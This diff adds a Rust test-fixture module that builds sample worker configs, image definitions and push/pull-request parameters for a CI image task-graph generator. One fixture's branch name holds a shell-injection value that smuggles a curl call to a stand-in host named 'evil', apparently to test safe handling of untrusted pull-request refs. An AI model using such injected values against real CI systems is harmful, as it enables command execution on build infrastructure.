@@ -1,0 +1,166 @@
+//! Small fleets for tests.
+
+use std::collections::BTreeMap;
+
+use crate::definition::*;
+use crate::full::{ImageTasks, full_task_graph};
+use crate::graph::TaskGraph;
+use crate::parameters::Parameters;
+use crate::templates::KindTemplates;
+
+pub(crate) fn config() -> ProjectConfig {
+    let alias = |worker_type: &str, implementation, os| {
+        WorkerAlias::new(
+            ByLevel::new(
+                ProvisionerId::new("td-1").unwrap(),
+                ProvisionerId::new("td-3").unwrap(),
+            ),
+            ByLevel::same(WorkerType::new(worker_type).unwrap()),
+            implementation,
+            os,
+        )
+    };
+    let mut containers = alias("containers", Implementation::DockerWorker, Os::Linux);
+    let digest = "0".repeat(64);
+    containers.image = Some(ByLevel::same(ContainerImage::Registry(format!(
+        "example.org/tool@sha256:{digest}"
+    ))));
+    let mut windows = alias("win-builder", Implementation::GenericWorker, Os::Windows);
+    windows.administrator = true;
+    let mut linux = alias("image-builder", Implementation::GenericWorker, Os::Linux);
+    linux.os_groups = vec!["kvm".to_owned()];
+    let mut config = ProjectConfig::new(TrustDomain::new("td").unwrap());
+    config.owner = "releng@example.org".to_owned();
+    config.treeherder = Some(TreeherderGroup {
+        symbol: "I".to_owned(),
+        name: "Machine images".to_owned(),
+    });
+    for (name, alias) in [
+        ("linux-builder", linux),
+        ("windows-builder", windows),
+        ("containers", containers),
+    ] {
+        config.workers.insert(AliasName::new(name).unwrap(), alias);
+    }
+    config
+}
+
+/// An image of a name on a worker alias, with every kind of task.
+pub(crate) fn image(name: &str, worker: &str) -> ImageDefinition {
+    let worker = AliasName::new(worker).unwrap();
+    let windows = worker.as_str().starts_with("windows");
+    ImageDefinition {
+        id: ImageId::new(
+            ImageName::new(name).unwrap(),
+            if windows { Cloud::Azure } else { Cloud::Google },
+        ),
+        definition: name.to_owned(),
+        description: "Headless workers".to_owned(),
+        owner: "team@example.org".to_owned(),
+        os: if windows { Os::Windows } else { Os::Linux },
+        arch: Arch::Amd64,
+        level: Some(Level::Three),
+        attributes: BTreeMap::from([("gui".to_owned(), AttributeValue::Bool(false))]),
+        parent: None,
+        builder: Builder::Task {},
+        scripts: Vec::new(),
+        build: BuildTask {
+            worker: worker.clone(),
+            max_run_time: Duration::hours(2),
+            retries: Some(2),
+            secrets: vec![SecretName::new("cloud/google").unwrap()],
+        },
+        verify: Some(VerifyTask {
+            method: VerifyMethod::Boot,
+            checks: Vec::new(),
+            worker: worker.clone(),
+            max_run_time: Duration::minutes(30),
+            secrets: Vec::new(),
+        }),
+        publish: Some(PublishTask {
+            worker,
+            family: Some("workers".to_owned()),
+            regions: vec!["us-central1".to_owned()],
+            labels: BTreeMap::new(),
+            max_run_time: Duration::hours(1),
+            secrets: vec![SecretName::new("publish/google").unwrap()],
+        }),
+        max_age: None,
+        treeherder: Some(Treeherder::new("linux-image/opt", name).unwrap()),
+    }
+}
+
+pub(crate) fn digests() -> BTreeMap<Kind, Digest> {
+    [
+        (Kind::Build, "b"),
+        (Kind::Verify, "e"),
+        (Kind::Publish, "f"),
+    ]
+    .into_iter()
+    .map(|(kind, digit)| (kind, Digest::new(&digit.repeat(64)).unwrap()))
+    .collect()
+}
+
+pub(crate) fn push(level: Level) -> Parameters {
+    Parameters {
+        base_ref: "main".to_owned(),
+        base_rev: "1".repeat(40),
+        build_date: 1_767_225_599,
+        head_ref: "main".to_owned(),
+        moz_build_date: "20251231235959".to_owned(),
+        owner: "somebody@example.org".to_owned(),
+        pushdate: 1_767_225_599,
+        ..Parameters::new(
+            level,
+            "images",
+            "https://github.com/example/images",
+            &"2".repeat(40),
+        )
+    }
+}
+
+pub(crate) fn pull_request() -> Parameters {
+    Parameters {
+        head_repository: "https://github.com/somebody/images".to_owned(),
+        head_ref: "x';curl${IFS}evil;'".to_owned(),
+        tasks_for: "github-pull-request".to_owned(),
+        pull_request_number: Some(7),
+        ..push(Level::One)
+    }
+}
+
+/// A base and its child on generic-worker, one image on Windows, one on docker-worker.
+pub(crate) fn fleet() -> Vec<ImageDefinition> {
+    let base = image("base", "linux-builder");
+    let mut child = image("child", "linux-builder");
+    child.parent = Some(base.id.clone());
+    child.verify = None;
+    vec![
+        base,
+        child,
+        image("win11", "windows-builder"),
+        image("decision", "containers"),
+    ]
+}
+
+pub(crate) fn tasks(images: &[ImageDefinition]) -> Vec<ImageTasks<'_>> {
+    images
+        .iter()
+        .map(|image| {
+            let mut tasks = ImageTasks::new(image, "image-defs/images/a.yml", digests());
+            tasks.reasons = BTreeMap::from([(Kind::Build, vec!["new".to_owned()])]);
+            tasks
+        })
+        .collect()
+}
+
+pub(crate) fn graph(parameters: &Parameters) -> TaskGraph {
+    let images = fleet();
+    full_task_graph(
+        &tasks(&images),
+        &config(),
+        parameters,
+        &KindTemplates::embedded(),
+    )
+    .unwrap()
+}
